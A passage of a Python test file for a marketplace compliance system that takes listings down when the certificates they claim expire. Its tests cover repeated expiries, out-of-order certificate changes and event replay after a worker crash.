            after_expiry,
        ),
        after_expiry,
    )
    assert [v.action for v in swept.verdicts] == [VerdictAction.TAKEDOWN]
    late = on_listing_event(
        swept.state, _event("E-2", ListingEventType.UPDATED, T0 + 1), after_expiry + 1
    )
    assert not live(late.state), [v.action for v in late.verdicts]


def test_two_expiries_of_one_certificate_take_down_with_distinct_verdict_ids() -> None:
    """Consumers de-duplicate on verdict_id. A certificate that expires, is renewed, and
    expires again takes its listings down twice with the same verdict_id, so a consumer drops
    the second TAKEDOWN as a duplicate and the listing stays on sale."""
    first_end, second_end = T0 // DAY_MS, T0 // DAY_MS + 400
    pending = on_listing_event(None, _event("E-1", ListingEventType.CREATED, T0), T0)
    state = on_certificate_answer(pending.state, LID, A, _valid(1, first_end), T0).state

    def recheck(state: ListingState | None, view: CertView, trigger: str, at: int) -> Outcome:
        kind = (
            VerdictTrigger.CERTIFICATE_EXPIRY
            if trigger.endswith("@expiry")
            else VerdictTrigger.CERTIFICATE_CHANGE
        )
        return on_recheck(state, LID, CertTrigger(A, view, kind, trigger, at), at)

    first = recheck(state, _valid(1, first_end), expiry_trigger_id(A), validity_end_ms(first_end))
    renewed = recheck(first.state, _valid(2, second_end), change_trigger_id(A, 2), T0 + DAY_MS)
    second = recheck(
        renewed.state, _valid(2, second_end), expiry_trigger_id(A), validity_end_ms(second_end)
    )
    actions = [v.action for o in (first, renewed, second) for v in o.verdicts]
    assert actions == [VerdictAction.TAKEDOWN, VerdictAction.RESTORE, VerdictAction.TAKEDOWN]
    assert first.verdicts[0].verdict_id != second.verdicts[0].verdict_id


def test_an_older_certificate_change_cannot_re_allow_an_expired_claim() -> None:
    """Decisions are made at the trigger's own time, and nothing keeps that time from going
    backwards per listing. A listing event after A's expiry BLOCKs (CERTIFICATE_EXPIRED);
    a change of the other certificate B stamped (changed_at) before A's expiry then re-decides
    at that older time, finds A valid and RESTOREs: the listing is on sale on an expired
    certificate, and the expiry sweep, which already swept A, will not look at it again."""
    b = CERTS[1]
    expires_on = T0 // DAY_MS
    end = validity_end_ms(expires_on)
    both = ListingEvent("E-1", ListingEventType.CREATED, "jd", LID, "S-1", "0907", (A, b), T0)
    state = on_listing_event(None, both, T0).state
    state = on_certificate_answer(state, LID, A, _valid(1, expires_on), T0).state
    state = on_certificate_answer(state, LID, b, _valid(1), T0).state
    assert live(state)
    late = ListingEvent("E-2", ListingEventType.UPDATED, "jd", LID, "S-1", "0907", (A, b), end + 1)
    blocked = on_listing_event(state, late, end + 1)
    assert [(v.action, v.reasons) for v in blocked.verdicts] == [
        (VerdictAction.BLOCK, (VerdictReason.CERTIFICATE_EXPIRED,))
    ]
    changed_b = CertView(CertificateStatus.VALID, 2, None, FAR)  # category now from its number
    older = on_recheck(
        blocked.state,
        LID,
        CertTrigger(
            b, changed_b, VerdictTrigger.CERTIFICATE_CHANGE, change_trigger_id(b, 2), end - 1
        ),
        end + 2,
    )
    assert not live(older.state), [v.action for v in older.verdicts]


def test_replay_of_two_events_of_a_listing_keeps_the_latest_claim() -> None:
    """E-1 claims A (ALLOW), E-2 drops every claim (BLOCK, NO_CERTIFICATE); the worker dies
    before committing either offset, and both are read again over the state already written.
    E-1 is not the last verdict's trigger nor pending, so it is applied again as new (claims A,
    subscribes); E-2 *is* the last verdict's trigger, so its replay only re-emits the old BLOCK
    and leaves E-1's claim in place. The answer to the new subscription then ALLOWs E-1: the
    listing is live on a claim its latest event withdrew."""
    state = run(None, _ONE_CLAIM_THEN_NONE)
    assert state is not None and not state.live and state.claimed == ()
    replayed = run(state, _ONE_CLAIM_THEN_NONE[::2])  # the two events again, in order
    replayed = apply(replayed, AnswerInput(CERTS[0], _VALID_A)).state
    assert replayed is not None and replayed.claimed == ()
    assert not replayed.live
